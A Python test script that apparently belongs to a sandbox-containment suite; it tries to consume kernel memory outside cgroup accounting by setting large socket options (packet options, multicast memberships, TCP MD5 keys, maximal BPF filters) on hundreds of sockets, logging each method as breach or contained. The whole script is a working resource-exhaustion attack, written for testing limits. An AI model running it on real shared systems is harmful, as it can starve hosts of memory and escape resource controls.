# attack: hide memory in options of sockets, which no cgroup counts: control messages, filters, keys, groups
# expect: CONTAINED
# limits: --memory 64M --open-files 2048 --timeout 60
# bare: host
import errno
import socket
import struct

from hostile import breach, contained, finish, unclear

LIMIT, BOUND, MIB = 64, 96, 1 << 20
INET, INET6, DGRAM, STREAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_STREAM
GROUP = struct.pack("=HH4s8x112x", INET, 0, bytes([239, 1, 1, 1]))
SOURCE = struct.pack("=HH4s8x112x", INET, 0, bytes([192, 0, 2, 1]))
LOOPBACK = struct.pack("=I4x", 1)
LABEL = bytes(15) + b"\1" + struct.pack("=IBBHHHI", 0, 0, 255, 1, 6, 6, 0)
KEY = struct.pack("=HH4s8x112xBBHI80s", INET, 0, bytes([192, 0, 2, 1]), 0, 0, 8, 0, b"k" * 8)


def message(size):
    """A control message of another protocol, which the kernel keeps and does not look into."""
    return struct.pack("=QII", size, 0, 0) + bytes(size - 16)


# What is kept of each value: the kernel rounds up to a power of two.
WAYS = [
    ("IPV6_2292PKTOPTIONS", INET6, DGRAM, 41, 6, message(65536), 1 << 17),
    ("IPV6_RTHDR", INET6, DGRAM, 41, 57, bytes([0, 2, 2, 1]) + bytes(20), 64),
    ("IPV6_DSTOPTS", INET6, DGRAM, 41, 59, bytes([0, 0, 1, 4, 0, 0, 0, 0]), 64),
    ("IPV6_HOPOPTS", INET6, DGRAM, 41, 54, bytes([0, 0, 1, 4, 0, 0, 0, 0]), 64),
    ("IPV6_FLOWLABEL_MGR", INET6, DGRAM, 41, 32, LABEL, 96),
    ("IPV6_JOIN_GROUP", INET6, DGRAM, 41, 20, bytes([255, 2]) + bytes(13) + b"\5" + struct.pack("=I", 1), 256),
    ("IPV6 MCAST_JOIN_GROUP", INET6, DGRAM, 41, 42, LOOPBACK + GROUP, 256),
    ("IP_OPTIONS", INET, DGRAM, 0, 4, bytes([1] * 40), 64),
    ("IP_ADD_MEMBERSHIP", INET, DGRAM, 0, 35, bytes([239, 1, 1, 1]) + bytes(4) + struct.pack("=I", 1), 256),
    ("MCAST_JOIN_SOURCE_GROUP", INET, DGRAM, 0, 46, LOOPBACK + GROUP + SOURCE, 256),
    ("TCP_MD5SIG", INET, STREAM, 6, 14, KEY, 192),
    ("TCP_FASTOPEN_KEY", INET, STREAM, 6, 33, bytes(16), 64),
    ("SO_ATTACH_FILTER", INET, DGRAM, 1, 26, None, 1 << 15),
]


def hold(sockets, way):
    """Until one refuses, or there is enough."""
    name, family, kind, level, option, value, size = way
    held = 0
    while held < BOUND * MIB and len(sockets) < 1500:
        kept = socket.socket(family, kind)
        sockets.append(kept)
        kept.setsockopt(level, option, value)
        held += size
    return held


def attach(sockets):
    """A filter of the greatest length, which has to live while it is attached."""
    import ctypes

    code = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0) * 4096)
    program = struct.pack("=H6xQ", 4096, ctypes.addressof(code))
    name, family, kind, level, option, _, size = WAYS[-1]
    return hold(sockets, (name, family, kind, level, option, program, size))


for way in WAYS:
    sockets, name = [], way[0]
    try:
        held = attach(sockets) if way[5] is None else hold(sockets, way)
        breach(f"{name}: {held / MIB:.1f} MiB by {len(sockets)} sockets")
    except OSError as error:
        if error.errno == errno.ENOPROTOOPT:
            contained(f"{name} ENOPROTOOPT")
        else:
            unclear(f"{name} {errno.errorcode.get(error.errno)}")
    for each in sockets:
        each.close()
finish()
